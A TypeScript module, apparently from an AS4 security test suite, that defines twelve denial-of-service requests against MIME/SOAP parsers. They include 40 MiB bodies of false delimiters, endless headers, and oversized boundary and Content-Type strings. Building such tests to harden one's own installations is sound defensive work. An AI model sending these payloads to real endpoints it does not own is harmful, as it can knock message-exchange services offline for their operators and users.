import { type Attack, attack, type Blow } from './attack.ts';
import type { Installation } from './installation.ts';
import { send } from './senders.ts';
import { filling } from './soap-attacks.ts';

const MIB = 1_048_576;
const TYPE = 'multipart/related; type="application/soap+xml"; boundary="b"';
const HEAD = '--b\r\nContent-Type: application/soap+xml\r\n\r\n';

function posting(target: Installation, body: string, contentType = TYPE): Blow {
  const bytes = Buffer.from(body, 'latin1');
  return { bytes: bytes.length, strike: () => send(target, target.as4Url, { contentType, body: bytes }) };
}

const mimeAttack = (name: string, body: () => string, contentType?: string): Attack =>
  attack(`mime-${name}`, async (target) => posting(target, body(), contentType));

/** Packaging from anybody, with nothing in it. */
export const MIME_ATTACKS: Attack[] = [
  mimeAttack('false-delimiters', () => HEAD + filling('\r\n--bx', 40 * MIB)),
  mimeAttack('delimiters-with-spaces', () => HEAD + filling(`\r\n--b${' '.repeat(100)}x`, 40 * MIB)),
  mimeAttack('line-ends', () => HEAD + filling('\r\n', 40 * MIB)),
  mimeAttack('hyphens', () => HEAD + filling('\r\n-', 40 * MIB)),
  mimeAttack('parts', () => `--b${filling('\r\n\r\n\r\n--b', 40 * MIB)}--`),
  mimeAttack('header-without-end', () => `--b\r\n${filling('a: b\r\n', 40 * MIB)}`),
  mimeAttack('header-folded', () => `--b\r\na: ${filling('\r\n ', 16_000)}x\r\n\r\n\r\n--b--`),
  mimeAttack('header-blanks', () => `--b\r\na:${' '.repeat(16_000)}\r\n\r\n\r\n--b--`),
  mimeAttack('preamble', () => filling('--b', 40 * MIB)),
  mimeAttack(
    'long-boundary',
    () => filling(`\r\n--${'-'.repeat(199)}`, 40 * MIB),
    `${TYPE.slice(0, -2)}${'-'.repeat(200)}"`,
  ),
  mimeAttack('content-type', () => HEAD, `multipart/related;${' ;boundary'.repeat(1_500)}`),
  mimeAttack('content-type-blanks', () => HEAD, `multipart/related;${' '.repeat(15_000)}x`),
];
